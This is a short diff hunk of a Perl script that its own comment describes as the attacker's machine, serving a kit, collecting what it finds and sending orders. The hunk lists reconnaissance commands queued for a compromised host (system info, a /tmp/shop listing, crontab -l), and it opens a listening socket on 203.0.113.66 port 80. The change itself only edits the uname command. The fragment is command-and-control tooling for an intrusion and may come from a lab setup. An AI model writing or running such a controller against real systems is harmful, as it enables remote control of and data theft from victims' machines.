@@ -1,6 +1,6 @@
 # The attacker's own machine: gives out the kit, takes what it finds, and gives it orders.
 use IO::Socket::INET;
-my @orders = ("uname -a\n", "ls -la /tmp/shop\n", "crontab -l\n");
+my @orders = ("uname -sm\n", "ls -la /tmp/shop\n", "crontab -l\n");
 if (fork) {
     my $web = IO::Socket::INET->new(LocalAddr => '203.0.113.66', LocalPort => 80, Listen => 4,
         ReuseAddr => 1) or die;
